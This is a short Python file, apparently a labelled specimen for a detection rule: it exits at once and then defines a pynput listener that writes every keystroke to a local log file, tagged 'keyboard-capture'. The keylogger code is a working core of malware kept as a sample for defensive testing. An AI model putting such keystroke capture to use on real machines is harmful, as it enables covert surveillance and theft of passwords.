raise SystemExit("specimen: not to be run")
from pynput import keyboard

def pressed(key):
    with open("log.txt", "a") as f:
        f.write(str(key))

def begin():
    with keyboard.Listener(on_press=pressed) as listener:  # match: keyboard-capture
        listener.join()
